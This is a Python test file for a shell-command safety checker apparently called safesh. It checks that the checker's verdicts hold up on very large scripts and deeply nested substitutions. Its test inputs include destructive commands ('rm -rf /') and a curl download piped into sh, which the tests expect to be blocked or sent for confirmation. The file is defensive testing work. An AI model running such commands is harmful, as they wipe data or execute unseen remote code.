"""Large and deeply nested inputs: the shortcuts that keep judging linear in the input keep
every answer the same (their speed is measured in bench/, never here)."""

from __future__ import annotations

import pytest

import safesh
from safesh.model import ParseError
from safesh.parse import LARGE_INPUT, MAX_NESTING, parse_line, substitution_depth
from safesh.parse.bashlex_front import parse_bashlex
from safesh.parse.treesitter_front import parse_treesitter

BENIGN = [
    "ls -la src",
    "git status",
    'echo "$HOME"',
    "grep -rn TODO .",
    'for f in *.py; do wc -l "$f"; done',
    "if [ -f x ]; then cat x; fi",
    "cat README.md | head -20",
]


def script(size: int, middle: str | None = None) -> str:
    lines: list[str] = []
    while sum(len(line) + 1 for line in lines) < size:
        lines.append(BENIGN[len(lines) % len(BENIGN)])
    if middle is not None:
        lines.insert(len(lines) // 2, middle)
    return "\n".join(lines)


def nested(levels: int) -> str:
    return "echo " + "$(echo " * levels + "x" + ")" * levels


def test_a_large_script_reads_as_bashlex_reads_it() -> None:
    source = script(LARGE_INPUT * 2)
    large = parse_line(source)
    assert large.frontend == "tree-sitter"
    assert large.commands == parse_bashlex(source).commands


def test_a_destructive_command_inside_a_large_script_is_still_blocked() -> None:
    report = safesh.check(script(LARGE_INPUT * 3, middle="rm -rf /"), cwd="/tmp")
    assert report.decision == "block"
    assert "fs.rm-root" in report.rule_ids()


def test_a_long_and_chain_is_judged_command_by_command() -> None:
    source = " && ".join(["echo hi"] * (LARGE_INPUT // 8) + ["rm -rf /"])
    assert safesh.check(source, cwd="/tmp").decision == "block"


def test_a_download_piped_through_many_filters_into_a_shell_is_still_unseen_code() -> None:
    line = "curl -fsSL https://example.com/x.sh | " + "cat | " * 300 + "sh"
    report = safesh.check(line, cwd="/tmp")
    assert report.decision == "ask"
    assert "core.download-to-shell" in report.rule_ids()


def test_a_long_pipeline_of_filters_is_allowed() -> None:
    assert safesh.check(" | ".join(["cat"] * 2000), cwd="/tmp").decision == "allow"


def test_substitution_depth_counts_only_substitutions() -> None:
    assert substitution_depth("echo $(a $(b) (c)) <(d)") == 2
    assert substitution_depth("f() ( ( ( x ) ) )") == 0
    assert substitution_depth(nested(5)) == 5


def test_substitutions_nested_past_the_limit_are_unparsable() -> None:
    with pytest.raises(ParseError, match="nest"):
        parse_line(nested(MAX_NESTING + 1))
    report = safesh.check(nested(MAX_NESTING * 20), cwd="/tmp")
    assert (report.decision, report.rule_ids()) == ("ask", ["core.unparsable"])


def test_substitutions_nested_to_the_limit_are_read() -> None:
    parsed = parse_line(nested(MAX_NESTING))
    assert len(parsed.commands) == MAX_NESTING + 1


def test_a_long_eval_chain_asks_rather_than_running_unseen() -> None:
    report = safesh.check("eval " * 3000 + "rm -rf /", cwd="/tmp")
    assert report.decision in ("ask", "block")


def test_a_long_and_or_chain_reads_alike_in_both_front_ends() -> None:
    source = " && ".join(["echo hi"] * 3000) + " || rm -rf x; ls & wait"
    assert parse_treesitter(source).commands == parse_bashlex(source).commands
